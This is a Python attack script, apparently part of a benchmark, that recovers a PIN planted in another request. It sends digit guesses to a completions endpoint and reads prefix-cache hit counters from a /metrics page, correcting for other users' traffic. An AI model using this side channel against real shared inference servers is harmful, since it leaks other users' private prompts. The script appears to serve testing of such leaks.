"""Another user's PIN, digit by digit, by what the counters of the prefix cache say of each guess.

A hit leaves the last tokens of a prompt to be computed, so a guess has more text behind it. Others' requests are counted too:
what they add is taken off, by the share of hits that they have while the attacker is silent.
"""

import asyncio
import re
from collections.abc import Awaitable

import httpx

from benchmarks.attacks.target import Target

_SECRET = "7305"
_TEXT = "Remember that the code for the north gate is "
_SILENCE = 1.5  # seconds in which others are watched


async def attack(target: Target) -> None:
    async with target.client() as http:
        await _ask(target, http, f"{_TEXT}{_SECRET}. What is it?")
        looked_up, found = await _gain(http, asyncio.sleep(_SILENCE))
        noise = found / looked_up if looked_up else 0.0
        known = ""
        for _ in _SECRET:
            gains: dict[str, float] = {}
            for digit in "0123456789":
                own: list[int] = []
                looked_up, found = await _gain(http, _guess(target, http, f"{_TEXT}{known}{digit} is the code.", own))
                gains[digit] = found - noise * (looked_up - sum(own))
            known += max(gains, key=gains.__getitem__)
        target.outcomes["PIN read" if known == _SECRET else "PIN not read"] += 1


async def _guess(target: Target, http: httpx.AsyncClient, prompt: str, tokens: list[int]) -> None:
    tokens.append(await _ask(target, http, prompt))


async def _ask(target: Target, http: httpx.AsyncClient, prompt: str) -> int:
    """Returns how many tokens the prompt has."""
    response = await target.post(http, "/v1/completions", {"model": "demo", "prompt": prompt, "max_tokens": 1})
    return int(response.json()["usage"]["prompt_tokens"]) if response is not None else 0


async def _gain(http: httpx.AsyncClient, doing: Awaitable[None]) -> tuple[float, float]:
    """Tokens that were looked up and found while something was done."""
    before = await _counters(http)
    await doing
    after = await _counters(http)
    return after[0] - before[0], after[1] - before[1]


async def _counters(http: httpx.AsyncClient) -> tuple[float, float]:
    text = (await http.get("/metrics")).text
    looked_up, found = (
        sum(map(float, re.findall(rf"^bento_kv_prefix_cache_{name}_tokens_total\S* (\S+)", text, re.MULTILINE)))
        for name in ("query", "hit")
    )
    return looked_up, found
